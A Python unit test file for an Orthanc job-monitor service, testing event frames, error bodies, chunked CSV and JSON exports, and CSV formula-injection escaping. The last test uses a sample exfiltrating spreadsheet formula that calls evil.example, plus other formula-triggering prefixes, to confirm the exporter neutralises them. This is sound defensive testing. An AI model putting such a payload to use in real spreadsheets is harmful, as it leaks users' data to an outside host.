"""The wire shapes written in one place, and the registry's typed notices that feed the event stream."""

import csv
import io

import orjson

from orthanc_jobs.core.changes import Change, JobChanged, JobRemoved, ServerChanged, ServerSeen
from orthanc_jobs.core.wire import (
    CSV_COLUMNS,
    error_body,
    expanded_jobs,
    expanded_jobs_chunks,
    frame_for,
    job_json,
    jobs_csv,
    server_field,
    sse_frame,
)
from tests.unit.fake_orthanc import registry_of

URL = "http://127.0.0.1:8001"
JOB_ID = "11111111-1111-1111-1111-111111111111"


def test_the_registry_tells_each_change_with_a_typed_notice_store_first() -> None:
    registry = registry_of([URL])
    heard: list[Change] = []
    registry.subscribers.append(heard.append)
    server = registry.server_by_url(URL)

    registry.mark_seen(server)
    job = registry.apply_snapshot(server, {"ID": JOB_ID, "State": "Running", "Type": "Archive"})
    registry.remove_job(JOB_ID)

    assert heard == [ServerSeen(server), JobChanged(job, first_start=True), JobRemoved(JOB_ID)]
    assert registry.subscribers[0].__self__.__class__.__name__ == "SqliteStore"  # type: ignore[attr-defined]


def test_frames_are_the_api_shapes_and_bookkeeping_is_not_shown() -> None:
    registry = registry_of([URL])
    server = registry.server_by_url(URL)
    job = registry.apply_snapshot(server, {"ID": JOB_ID, "State": "Success", "Type": "Archive"})

    kind, data = frame_for(registry, JobChanged(job))
    assert kind == "job" and data == job_json(job, server_field(registry, job))
    assert orjson.loads(data)["Server"] == {
        "Name": "orthanc-1",
        "Url": URL,
        "Status": "alive",
        "HistoryOnly": False,
        "Stuck": False,
        "StuckSince": None,
    }
    assert frame_for(registry, ServerChanged(server))[0] == "server"
    assert frame_for(registry, JobRemoved(JOB_ID)) == ("removed", b'{"ID":"' + JOB_ID.encode() + b'"}')
    assert frame_for(registry, ServerSeen(server)) is None
    assert sse_frame(7, "job", b"{}") == b"id: 7\nevent: job\ndata: {}\n\n"


def test_an_error_body_has_orthancs_fields_in_orthancs_order() -> None:
    body = orjson.loads(error_body("GET", "/jobs/x", 404, "unknown job x", "Unknown resource", 17))
    assert list(body) == [
        "HttpError",
        "HttpStatus",
        "Message",
        "Method",
        "OrthancError",
        "OrthancStatus",
        "Uri",
    ]
    assert body["HttpError"] == "Not Found" and body["OrthancStatus"] == 17


def test_large_exports_are_written_in_chunks_that_make_the_whole() -> None:
    registry = registry_of([URL])
    server = registry.server_by_url(URL)
    assert server is not None
    for number in range(1200):
        job = {"ID": f"{number:08d}-0000-4000-8000-000000000000", "State": "Success", "Type": "Media"}
        registry.apply_snapshot(server, {**job, "CreationTime": f"20261128T{number:06d}", "Timestamp": "1"})
    jobs = registry.list_jobs()
    chunks = list(jobs_csv(registry, jobs, per_chunk=500))
    assert len(chunks) == 3 and all(len(chunk) < 60_000 for chunk in chunks)
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode())))
    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 1201
    assert rows[-1][:4] == ["00001199-0000-4000-8000-000000000000", "Media", "Success", "orthanc-1"]
    parts = list(expanded_jobs_chunks(registry, jobs, per_chunk=500))
    assert len(parts) == 4 and b"".join(parts) == expanded_jobs(registry, jobs)
    assert b"".join(expanded_jobs_chunks(registry, [])) == expanded_jobs(registry, []) == b"[]"
    assert b"".join(jobs_csv(registry, [])) == b",".join(c.encode() for c in CSV_COLUMNS) + b"\r\n"


def test_a_text_cell_a_spreadsheet_would_take_for_a_formula_is_quoted_and_numbers_stay_numbers() -> None:
    registry = registry_of([URL])
    server = registry.server_by_url(URL)
    assert server is not None
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    dangerous = [hyperlink, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
    for number, text in enumerate([*dangerous, "Ward 7 = nightly", ""]):
        job = {
            "ID": f"{number:08d}-0000-4000-8000-000000000000",
            "State": "Failure",
            "Type": "=Type" if number == 0 else "Media",
            "Progress": 0,
            "ErrorCode": -1,
            "ErrorDescription": text,
            "Content": {"Description": text},
        }
        registry.apply_snapshot(server, {**job, "CreationTime": f"20261128T{number:06d}", "Timestamp": "1"})
    rows = list(csv.DictReader(io.StringIO(b"".join(jobs_csv(registry, registry.list_jobs())).decode())))
    assert [row["Description"] for row in rows] == [
        *(f"'{text}" for text in dangerous),
        "Ward 7 = nightly",
        "",
    ]
    assert [row["ErrorDescription"] for row in rows] == [row["Description"] for row in rows]
    assert rows[0]["Type"] == "'=Type"
    assert {(row["ErrorCode"], row["Progress"]) for row in rows} == {("-1", "0")}
